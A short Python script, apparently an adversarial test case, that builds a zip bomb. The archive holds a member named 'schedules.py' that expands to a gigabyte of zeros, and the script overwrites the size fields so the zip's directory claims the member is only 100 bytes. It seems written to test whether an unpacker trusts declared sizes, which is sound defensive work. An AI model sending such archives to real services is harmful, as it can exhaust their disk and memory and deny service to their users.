"""Hand in a zip whose directory says that a module has 100 bytes; what it unpacks to has a gigabyte.

Success: the words of the directory are believed.
"""

import io
import struct
import zipfile
from pathlib import Path


def make(path: Path) -> None:
    buffer = io.BytesIO()
    with (
        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive,
        archive.open("schedules.py", "w") as member,
    ):
        for _ in range(64):
            member.write(bytes(1 << 24))
    raw, true = buffer.getvalue(), struct.pack("<I", 1 << 30)
    path.with_name(path.name + ".zip").write_bytes(raw.replace(true, struct.pack("<I", 100)))
